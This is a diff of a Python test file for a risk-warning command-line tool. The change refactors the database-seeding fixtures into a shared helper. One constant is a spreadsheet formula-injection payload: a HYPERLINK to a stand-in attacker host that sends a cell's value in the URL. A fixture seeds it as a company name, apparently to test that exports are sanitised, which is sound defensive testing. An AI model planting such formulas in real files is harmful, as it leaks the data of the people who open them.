@@ -12,6 +12,7 @@ import io
 import json
 from datetime import date
 from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pandas as pd
@@ -21,22 +22,26 @@ from typer.testing import CliRunner
 
 from risk.store import migrate, open_engine
 from risk.warnings import NOTICE_COLUMNS
-from serving.cli_warn import demo_warnings, warn_app
+from serving.cli.warn import demo_warnings, warn_app
 from serving.settings import Settings
 from tests.risk.test_rules import INSIDE, U, ent, penalties, seed_store
 
 runner = CliRunner()
 
 
-@pytest.fixture
-def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
-    monkeypatch.setenv("CREDLINK_WORK_DIR", str(tmp_path / "work"))
-    monkeypatch.delenv("CREDLINK_DATABASE_URL", raising=False)
+def _seeded(enterprises: list[dict[str, Any]], records: list[dict[str, Any]]) -> Settings:
+    """The environment's store (``env``), migrated and seeded."""
     settings = Settings()
     engine = open_engine(settings.store_url)
     migrate(engine)
-    seed_store(
-        engine,
+    seed_store(engine, enterprises, records)
+    engine.dispose()
+    return settings
+
+
+@pytest.fixture
+def store(env: Path) -> Settings:
+    return _seeded(
         [ent(U[0], "甲公司"), ent(U[1], "乙公司")],
         [
             *penalties(U[0], *INSIDE),
@@ -44,8 +49,6 @@ def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
             *penalties(U[1], "2025-03-01", domain="ecology_environment"),
         ],
     )
-    engine.dispose()
-    return settings
 
 
 def _run(*args: str) -> tuple[int, str]:
@@ -167,22 +170,15 @@ FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"乙公司")'
 
 
 @pytest.fixture
-def hostile_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
+def hostile_store(env: Path) -> Settings:
     """乙公司 registered under a formula (as a hostile file could have it ingested)."""
-    monkeypatch.setenv("CREDLINK_WORK_DIR", str(tmp_path / "work"))
-    monkeypatch.delenv("CREDLINK_DATABASE_URL", raising=False)
-    settings = Settings()
-    engine = open_engine(settings.store_url)
-    migrate(engine)
-    seed_store(
-        engine,
+    settings = _seeded(
         [ent(U[1], FORMULA_NAME)],
         [
             *penalties(U[1], "2025-01-01", "2025-02-01", domain="taxation"),
             *penalties(U[1], "2025-03-01", domain="ecology_environment"),
         ],
     )
-    engine.dispose()
     assert _run("run", "--as-of", "2026-06-30")[0] == 0
     return settings
 
